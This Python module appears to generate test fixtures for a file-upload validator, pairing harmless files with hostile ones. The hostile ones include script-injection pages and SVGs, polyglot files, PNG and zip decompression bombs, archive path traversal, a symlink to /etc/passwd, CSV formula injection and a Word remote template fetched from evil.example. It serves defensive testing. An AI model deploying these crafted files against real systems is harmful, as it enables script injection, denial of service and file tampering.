"""Files made here: harmless ones and hostile ones (no binaries lie in the repository)."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image

PLACE = b"GPSLatitude"


def picture(kind: str = "PNG", size: tuple[int, int] = (300, 200), **options) -> bytes:
    image = Image.new("RGB", size, "teal")
    image.paste("orange", (0, 0, size[0] // 2, size[1]))
    out = BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def photo_with_place() -> bytes:
    """A JPEG that says where it was taken, by which camera, and to be turned by 90 degrees."""
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (54.0, 58.0, 12.0), 3: "W", 4: (1.0, 36.0, 0.0)})
    return picture("JPEG", (300, 200), exif=exif, comment=b"the author's name")


def animation() -> bytes:
    frames = [Image.new("P", (20, 20), colour) for colour in range(5)]
    out = BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def picture_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG whose header claims 2.5 thousand million pixels, in a few kilobytes."""
    row = zlib.compress(b"\0" * 1_000_000, 9)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", row) + _chunk(b"IEND", b"")


def text_bomb() -> bytes:
    """A small PNG with a compressed comment of 60 MB."""
    png = picture("PNG", (4, 4))
    comment = b"Comment\0\0" + zlib.compress(b"A" * 60_000_000, 9)
    return png[:33] + _chunk(b"zTXt", comment) + png[33:]


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def archive(members: dict[str, bytes], *, link: str | None = None) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
        if link:
            info = zipfile.ZipInfo(link)
            info.external_attr = 0o120777 << 16
            made.writestr(info, "/etc/passwd")
    return out.getvalue()


TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
MACRO_TYPES = TYPES.replace(
    b"></", b"><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></"
)
OUTSIDE = (
    b'<Relationships><Relationship Type="http://schemas/attachedTemplate" Target="https://evil.example/t.dotm"'
    b' TargetMode="External"/></Relationships>'
)


def document(**more: bytes) -> bytes:
    """A Word file with further parts: ``document(**{"word/vbaProject.bin": b"..."})``."""
    return archive({"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document/>", **more})


def open_document() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        made.writestr("content.xml", "<office/>")
    return out.getvalue()


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject/></svg>'
MHT = b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n"
XML = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><lolz>&lol;</lolz>'

HARMLESS = {
    "lesson.png": (picture("PNG"), "image/png"),
    "lesson.jpg": (picture("JPEG"), "image/jpeg"),
    "lesson.JPEG": (picture("JPEG"), "image/jpeg"),
    "lesson.webp": (picture("WEBP"), "image/webp"),
    "moving.gif": (animation(), "image/png"),
    "plan.pdf": (PDF, "application/pdf"),
    "notes.txt": ("Minutes, Ústí nad Labem ✓\n".encode(), "text/plain"),
    "register.csv": (b"urn,name\n100000,=cmd()\n", "text/plain"),
    "plan.docx": (
        document(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "marks.xlsx": (
        archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<x/>"}),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "talk.pptx": (
        archive({"[Content_Types].xml": TYPES, "ppt/presentation.xml": b"<x/>"}),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "plan.odt": (open_document(), "application/vnd.oasis.opendocument.text"),
    "Lesson v1.2 final": (PDF, "application/pdf"),
}

HOSTILE = {
    "empty": ("x.txt", b""),
    "a page": ("x.html", HTML),
    "a page named as text": ("x.txt", HTML),
    "a page named as a picture": ("x.png", HTML),
    "a page named as PDF": ("x.pdf", HTML),
    "a page behind spaces": ("x.txt", b" \n\t" * 50 + HTML),
    "a page behind words": ("x.txt", b"hello " * 20 + b"<script>alert(1)</script>"),
    "a drawing with a script": ("x.svg", SVG),
    "a drawing named as text": ("x.txt", SVG),
    "a web archive": ("x.txt", MHT),
    "XML with entities": ("x.xml", XML),
    "a picture named as a page": ("x.png.html", picture()),
    "a picture named as a drawing": ("x.svg", picture()),
    "a page with a picture's beginning": ("x.gif", b"GIF89a/*" + HTML + b"*/=1;"),
    "a picture with a page inside its head": ("x.jpg", b"\xff\xd8\xff\xfe" + HTML),
    "a PDF that begins with a script": ("x.pdf", b"<script>alert(1)</script>" + PDF),
    "a program": ("x.exe", b"MZ\x90\x00" + b"\0" * 100),
    "a program named as text": ("x.txt", b"MZ\x90\x00" + b"\0" * 100),
    "a zip": ("x.zip", archive({"a.txt": b"a"})),
    "a zip named as a document": ("x.docx", archive({"a.txt": b"a"})),
    "a zip bomb as a document": ("x.docx", document(**{"word/media/a.bin": b"\0" * 100_000_000})),
    "nested zip bombs": ("x.docx", archive({"b.zip": archive({"a.bin": b"\0" * 30_000_000})})),
    "a path out of the archive": ("x.docx", document(**{"../../x": b"x"})),
    "an absolute path in the archive": ("x.docx", document(**{"/etc/x": b"x"})),
    "a link in the archive": (
        "x.docx",
        archive({"[Content_Types].xml": TYPES, "word/document.xml": b"<w/>"}, link="word/l"),
    ),
    "a document with macros": ("x.docx", document(**{"word/vbaProject.bin": b"x"})),
    "a document that says it has macros": (
        "x.docx",
        archive({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": b"<w/>"}),
    ),
    "a document named as one with macros": ("x.docm", document()),
    "a document with a template from elsewhere": ("x.docx", document(**{"word/_rels/settings.xml.rels": OUTSIDE})),
    "a zip with a broken directory": ("x.docx", document()[:-30]),
    "text in Latin-1": ("x.txt", "café".encode("latin-1")),
    "text with NUL": ("x.txt", b"a\0b"),
    "text with escape sequences": ("x.txt", b"\x1b]0;title\x07"),
    "half a picture": ("x.png", picture()[:60]),
    "a picture bomb": ("x.png", picture_bomb()),
    "a picture bomb one pixel high": ("x.png", picture_bomb(400_000_000, 1)),
    "a picture with a huge comment": ("x.png", text_bomb()),
}
